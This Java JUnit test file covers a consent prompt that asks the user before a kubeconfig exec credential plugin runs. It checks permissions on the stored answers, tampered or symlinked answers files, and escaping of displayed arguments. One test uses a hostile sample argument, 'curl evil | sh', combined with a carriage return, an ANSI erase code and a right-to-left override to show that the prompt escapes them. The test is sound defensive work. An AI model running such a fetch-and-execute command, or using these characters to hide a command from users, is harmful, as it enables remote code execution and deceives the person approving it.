package dev.foretop.app.consent;

import static org.assertj.core.api.Assertions.assertThat;

import dev.foretop.proxy.cluster.ExecPlugin;
import dev.foretop.proxy.cluster.Secret;
import dev.foretop.proxy.credential.ExecConsent.Decision;
import dev.foretop.proxy.credential.ExecRun;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class AskingExecConsentTest {

  @TempDir Path state;

  private final List<CompletableFuture<Boolean>> questions = new ArrayList<>();
  private final ExecQuestion question =
      _ -> {
        questions.add(new CompletableFuture<>());
        return Optional.of(questions.getLast());
      };

  @Test
  void asksOnceAndKeepsTheAnswerForTheNextStart() throws Exception {
    ExecQuestion yes = _ -> Optional.of(CompletableFuture.completedFuture(true));
    assertThat(consent(yes).decide(run("a"))).isEqualTo(Decision.ALLOWED);
    assertThat(consent(question).decide(run("a"))).isEqualTo(Decision.ALLOWED);
    assertThat(questions).isEmpty();

    ExecQuestion no = _ -> Optional.of(CompletableFuture.completedFuture(false));
    assertThat(consent(no).decide(run("b"))).isEqualTo(Decision.DENIED);
    assertThat(consent(question).decide(run("b"))).isEqualTo(Decision.DENIED);
    assertThat(questions).isEmpty();
  }

  @Test
  void keepsAnswersWhereOnlyTheUserMayReadThemAndWithoutSecrets() throws Exception {
    consent(_ -> Optional.of(CompletableFuture.completedFuture(true))).decide(run("a"));

    Path file = state.resolve("state/exec-answers.json");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
        .isEqualTo("rw-------");
    assertThat(Files.readString(file)).contains("/bin/a").doesNotContain("canary");
  }

  @Test
  void asksAQuestionOnlyOnceWhileItIsOpen() {
    AskingExecConsent consent = consent(question);

    assertThat(consent.decide(run("a"))).isEqualTo(Decision.UNANSWERED);
    assertThat(consent.decide(run("a"))).isEqualTo(Decision.UNANSWERED);
    assertThat(questions).hasSize(1);
    questions.getFirst().complete(true);

    assertThat(consent.decide(run("a"))).isEqualTo(Decision.ALLOWED);
    assertThat(consent.decide(run("b"))).isEqualTo(Decision.UNANSWERED);
  }

  @Test
  void asksAgainWhatWasRefusedOfAKubeconfigWhenTheUserWantsThat() {
    ExecQuestion no = _ -> Optional.of(CompletableFuture.completedFuture(false));
    ExecQuestion yes = _ -> Optional.of(CompletableFuture.completedFuture(true));
    consent(no).decide(run("a"));
    consent(yes).decide(run("b"));

    consent(question).forgetRefusals(Path.of("/home/jane/another"));
    assertThat(consent(question).decide(run("a"))).isEqualTo(Decision.DENIED);
    consent(question).forgetRefusals(Path.of("/home/jane/.kube/config"));
    assertThat(consent(question).decide(run("a"))).isEqualTo(Decision.UNANSWERED);
    assertThat(consent(question).decide(run("b"))).isEqualTo(Decision.ALLOWED);
  }

  @Test
  void doesNotAskAboutVariantsOfWhatWasRefused() {
    ExecQuestion no = _ -> Optional.of(CompletableFuture.completedFuture(false));
    consent(no).decide(run("a1"));

    assertThat(consent(question).decide(run("a2"))).isEqualTo(Decision.DENIED);
    assertThat(questions).isEmpty();
    consent(question).forgetRefusals(Path.of("/home/jane/.kube/config"));
    assertThat(consent(question).decide(run("a2"))).isEqualTo(Decision.UNANSWERED);
  }

  @Test
  void doesNotBelieveAnswersThatOthersMayHaveWritten() throws Exception {
    consent(_ -> Optional.of(CompletableFuture.completedFuture(true))).decide(run("a"));
    Path file = state.resolve("state/exec-answers.json");

    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-rw-rw-"));
    assertThat(consent(question).decide(run("a"))).isEqualTo(Decision.UNANSWERED);
    Path elsewhere = Files.move(file, state.resolve("elsewhere"));
    Files.setPosixFilePermissions(elsewhere, PosixFilePermissions.fromString("rw-------"));
    Files.createSymbolicLink(file, elsewhere);
    assertThat(consent(question).decide(run("a"))).isEqualTo(Decision.UNANSWERED);
  }

  @Test
  void refusesWhereThereIsNobodyToAsk() {
    assertThat(consent(ExecQuestion.NOBODY).decide(run("a"))).isEqualTo(Decision.NOBODY_TO_ASK);
  }

  @Test
  void hasNobodyToAskWhereThereIsNoTerminal() {
    assertThat(TerminalExecQuestion.onThisTerminal().ask(run("a"))).isEmpty();
  }

  @Test
  void asksAgainWhenTheFileOfAnswersIsDamaged() throws Exception {
    Files.createDirectory(
        state.resolve("state"),
        PosixFilePermissions.asFileAttribute(PosixFilePermissions.fromString("rwx------")));
    Files.writeString(state.resolve("state/exec-answers.json"), "{\"a\": {\"allowed\"");

    assertThat(consent(question).decide(run("a"))).isEqualTo(Decision.UNANSWERED);
  }

  @Test
  void showsAHostileFileForWhatItIs() {
    ExecPlugin plugin =
        plugin(List.of("-c", "curl evil | sh\r\u001b[2K\u202eok", "it's", "plain-1"));

    String details =
        ExecQuestionText.details(new ExecRun(Path.of("/bin/sh"), plugin, null, "fingerprint"));

    assertThat(details.lines()).hasSize(4);
    assertThat(details)
        .contains("/bin/sh", "curl evil | sh\\u{d}\\u{1b}[2K\\u{202e}ok", "plain-1", "TOKEN")
        .doesNotContain("canary", "\u001b", "\r", "\u202e");
  }

  private AskingExecConsent consent(ExecQuestion asked) {
    return new AskingExecConsent(
        new ExecAnswers(state.resolve("state")), asked, Duration.ofMillis(20));
  }

  private static ExecRun run(String fingerprint) {
    return new ExecRun(
        Path.of("/bin/" + fingerprint.charAt(0)),
        plugin(List.of("canary-argument")),
        null,
        fingerprint);
  }

  private static ExecPlugin plugin(List<String> arguments) {
    return new ExecPlugin(
        "plugin",
        arguments,
        Map.of("TOKEN", new Secret("canary-token")),
        "client.authentication.k8s.io/v1",
        ExecPlugin.InteractiveMode.NEVER,
        false,
        null,
        null,
        Path.of("/home/jane/.kube/config"));
  }
}
